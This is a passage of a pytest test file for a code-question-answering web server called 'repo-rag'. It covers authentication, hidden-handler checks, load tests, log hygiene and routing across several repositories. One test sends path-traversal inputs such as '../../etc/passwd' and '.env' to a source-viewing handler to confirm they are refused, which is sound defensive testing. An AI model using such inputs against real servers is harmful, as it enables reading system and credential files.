        return SimpleNamespace(served={}), SimpleNamespace(launch=lambda **kw: launched.append(kw))

    monkeypatch.setattr(core, "entry_points", lambda group: [EntryPoint()] if group == "repo_rag.commands" else [])
    monkeypatch.setattr(ui_app, "build_app", fake_build_app)
    for var in ("REPO_RAG_AUTH_USER", "REPO_RAG_AUTH_PASSWORD", "REPO_RAG_SERVE_HOST"):
        monkeypatch.delenv(var, raising=False)
    return core, launched


def test_serve_on_a_public_address_requires_a_login(monkeypatch, capsys, index_dir, tmp_path):
    core, launched = _core_with_serve(monkeypatch)
    args = ["serve", "--repo", str(FIXTURE), "--index-dir", str(index_dir), "--host", "0.0.0.0",
            "--feedback-db", str(tmp_path / "fb.sqlite")]  # fmt: skip
    assert core.main(args) == 2
    err = capsys.readouterr().err
    assert "refusing to serve on 0.0.0.0 without authentication" in err and "--insecure" in err
    assert launched == [], "nothing was served"
    assert core.main([*args, "--insecure"]) == 0
    assert launched[-1]["server_name"] == "0.0.0.0" and launched[-1]["auth"] is None
    monkeypatch.setenv("REPO_RAG_AUTH_USER", AUTH[0])
    monkeypatch.setenv("REPO_RAG_AUTH_PASSWORD", AUTH[1])
    assert core.main(args) == 0
    assert launched[-1]["server_name"] == "0.0.0.0" and launched[-1]["auth"] == AUTH


def serve_command() -> list[str]:
    """`repo-rag serve` when the package is installed (entry point), else `python -m ui.cli serve`."""
    from importlib.metadata import entry_points

    if any(ep.name == "serve" for ep in entry_points(group="repo_rag.commands")):
        exe = shutil.which("repo-rag", path=str(Path(sys.executable).parent))
        return [exe, "serve"] if exe else [sys.executable, "-m", "repo_rag.cli", "serve"]
    return [sys.executable, "-m", "repo_rag.ui.cli", "serve"]


def test_serve_refuses_non_loopback_host_from_environment(index_dir, tmp_path):
    env = {**os.environ, "REPO_RAG_SERVE_HOST": "0.0.0.0", "GRADIO_ANALYTICS_ENABLED": "False"}
    proc = subprocess.run(
        [*serve_command(), "--repo", str(FIXTURE), "--index-dir", str(index_dir), "--port", str(free_port())],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 2
    assert "refusing to bind to 0.0.0.0" in proc.stderr and "--host 0.0.0.0" in proc.stderr


def test_serve_plugs_into_the_core_cli_through_its_entry_point(monkeypatch, capsys, index_dir):
    """pyproject maps `serve = "repo_rag.ui.cli:add_parser"` in repo_rag.commands; the core CLI loads it."""
    core, _launched = _core_with_serve(monkeypatch)
    monkeypatch.setenv("REPO_RAG_SERVE_HOST", "10.1.2.3")
    rc = core.main(["serve", "--repo", str(FIXTURE), "--repo", str(FIXTURE), "--index-dir", str(index_dir)])
    assert rc == 2 and "the same repository is given twice" in capsys.readouterr().err
    rc = core.main(["serve", "--repo", str(FIXTURE), "--index-dir", str(index_dir)])
    assert rc == 2 and "refusing to bind to 10.1.2.3" in capsys.readouterr().err


def wait_http(url: str, proc: subprocess.Popen, timeout: float = 120) -> None:
    deadline = time.time() + timeout
    while time.time() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"server exited with {proc.returncode}")
        try:
            urllib.request.urlopen(url, timeout=2)
            return
        except urllib.error.HTTPError:
            return  # it answers (e.g. 401 with auth)
        except OSError:
            time.sleep(0.3)
    raise TimeoutError(f"{url} did not come up in {timeout} s")


@pytest.fixture(scope="module")
def auth_server(index_dir, tmp_path_factory):
    """`repo-rag serve` with basic auth from the environment, retrieval-only by default."""
    port = free_port()
    log_path = tmp_path_factory.mktemp("serve") / "serve.log"
    env = {
        **os.environ,
        "REPO_RAG_AUTH_USER": AUTH[0],
        "REPO_RAG_AUTH_PASSWORD": AUTH[1],
        "GRADIO_ANALYTICS_ENABLED": "False",
    }
    cmd = [*serve_command(), "--repo", str(FIXTURE), "--index-dir", str(index_dir), "--port", str(port),
           "--llm", "none"]  # fmt: skip
    with open(log_path, "w") as log:
        proc = subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_http(url + "/", proc)
        yield SimpleNamespace(url=url, log=log_path, proc=proc)
    finally:
        proc.terminate()
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            proc.kill()


def _status(url: str, data: bytes | None = None, headers: dict | None = None) -> int:
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status
    except urllib.error.HTTPError as exc:
        return exc.code


@pytest.mark.slow
def test_auth_rejects_unauthenticated_requests(auth_server):
    from gradio_client import Client

    assert _status(auth_server.url + "/config") == 401
    assert _status(auth_server.url + "/gradio_api/info") == 401
    body = json.dumps({"data": ["password", "", 0, "none"]}).encode()
    assert _status(auth_server.url + "/gradio_api/call/ask", body, {"Content-Type": "application/json"}) == 401
    with pytest.raises(Exception):  # noqa: B017 - any refusal will do, as long as nothing is answered
        Client(auth_server.url, verbose=False)
    with pytest.raises(Exception):  # noqa: B017
        Client(auth_server.url, auth=(AUTH[0], "wrong"), verbose=False)


@pytest.mark.slow
def test_authenticated_api_answers_and_hidden_handlers_keep_their_rules(auth_server):
    """Only /ask is documented. The page's own handlers are hidden, not unreachable (the page calls
    them over HTTP): called by hand, by name or the way the page does, they need the login and
    apply the same checks as in the page."""
    import httpx
    from gradio_client import Client

    client = Client(auth_server.url, auth=AUTH, verbose=False, download_files=False)
    out = client.predict("Where is password validation done?", "", 5, "none", api_name="/ask")
    assert out["backend"] == "none" and len(out["sources"]) == 5
    assert any(c["path"] == "bookstore/auth.py" and c["verified"] for c in out["citations"])
    api = client.view_api(print_info=False, return_format="dict")
    assert list(api["named_endpoints"]) == ["/ask"], "chat, source panel, feedback: UI-only, not in the API"
    with pytest.raises(Exception):  # noqa: B017 - the client library refuses hidden handlers
        client.predict(_payload("polyglot", "bookstore/auth.py", 39, 49), api_name="/show_source")
    client.close()

    with httpx.Client(timeout=30) as anon:
        assert call_hidden(auth_server.url, 0, ["{}"], anon)["status"] == 401
        assert anon.post(f"{auth_server.url}/gradio_api/call/show_source", json={"data": ["{}"]}).status_code == 401
    with httpx.Client(timeout=30) as http:
        login = http.post(auth_server.url + "/login", data={"username": AUTH[0], "password": AUTH[1]})
        assert login.status_code in (200, 302, 303)
        fn_index, _inputs = dependency_of(page_config(auth_server.url, http), "cite-box")
        for path in ("../../etc/passwd", "/etc/passwd", ".env", "bookstore/../../../../etc/passwd"):
            payload = [json.dumps({"path": path, "start": 1, "end": 3})]
            result = call_hidden(auth_server.url, fn_index, payload, http)
            assert result["msg"] == "process_completed" and result["success"], result
            by_name = call_by_name(auth_server.url, "show_source", payload, http)
            for panel in (result["output"]["data"][0], by_name):
                assert "Refused" in panel and "root:" not in panel and "source-view" not in panel
        payload = [_payload("polyglot", "bookstore/auth.py", 39, 49)]
        assert 'id="source-view"' in call_hidden(auth_server.url, fn_index, payload, http)["output"]["data"][0]
        assert 'id="source-view"' in call_by_name(auth_server.url, "show_source", payload, http)


@pytest.mark.slow
def test_load_20_parallel_questions_all_succeed(auth_server):
    from repo_rag.eval.load_test import markdown, run_load

    result = run_load(auth_server.url, n=20, backend="none", auth=AUTH, timeout_s=120)
    OUT.mkdir(exist_ok=True)
    (OUT / "load-test.json").write_text(json.dumps(result.to_dict(), indent=2) + "\n")
    (OUT / "load-test.md").write_text(markdown(result) + "\n")
    assert result.failed == 0, result.errors
    assert result.ok == 20 and len(result.latencies_s) == 20
    s = result.summary()
    assert 0 < s["p50_s"] <= s["p95_s"] <= s["max_s"]


@pytest.mark.slow
def test_load_test_script_exit_code_and_report(auth_server, tmp_path):
    env = {**os.environ, "REPO_RAG_AUTH_USER": AUTH[0], "REPO_RAG_AUTH_PASSWORD": AUTH[1]}
    out_json = tmp_path / "load.json"
    proc = subprocess.run(
        [sys.executable, "-m", "repo_rag.eval.load_test", "--url", auth_server.url, "-n", "4",
         "--json-out", str(out_json)],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert "| requests | ok | failed | p50 (s) | p95 (s)" in proc.stdout
    assert json.loads(out_json.read_text())["ok"] == 4


@pytest.mark.slow
def test_server_log_holds_no_repository_content(auth_server):
    from gradio_client import Client

    client = Client(auth_server.url, auth=AUTH, verbose=False, download_files=False)
    client.predict("How are passwords hashed?", "", 5, "none", api_name="/ask")
    client.close()
    time.sleep(0.5)
    log = auth_server.log.read_text()
    assert "answered repo=polyglot backend=none" in log
    for needle in ("pbkdf2_hmac", "Hash a password with PBKDF2", "def hash_password", "PasswordValidator"):
        assert needle not in log, f"repository content {needle!r} leaked into the INFO log"


def test_all_repositories_answers_from_the_one_that_matches(repo, tmp_path):
    """With several repositories served, "All repositories" sends each question to the repository
    whose code matches it best; the answer says which, and its citations open in that repository."""
    from ui.handlers import ALL_REPOS

    other = tmp_path / "shop"
    shutil.copytree(FIXTURE / "go", other / "go")
    shutil.copytree(FIXTURE / "ruby", other / "ruby")
    store = Repository(other, load_config(other, overrides={"llm": {"backend": "none"}}), tmp_path / "shop-index")
    store.index()
    app = ChatApp([repo, store], FeedbackStore(tmp_path / "fb.sqlite"))
    assert app.choices == ["polyglot", "shop", ALL_REPOS]
    for question, key, prefix in (("How does the Go server save a book?", "shop", "go/"),
                                  ("Where is the PasswordValidator class?", "polyglot", "bookstore/")):
        history, _box, answers, _graph, _status = _respond(app, question, repo_key=ALL_REPOS)[-1]
        final = history[-1]["content"]
        assert f"Answered from <b>{key}</b>" in final
        assert f"#cite?repo={key}&amp;path=" in final
        assert answers["1"]["citations"] and all(c.startswith(prefix) for c in answers["1"]["citations"])
    status = app.index_status(ALL_REPOS)
    assert "polyglot" in status and "shop" in status
    history = _respond(app, "How does the Go server save a book?", repo_key="polyglot")[-1][0]
    assert "Answered from" not in history[-1]["content"]  # a chosen repository answers as before
    store.close()
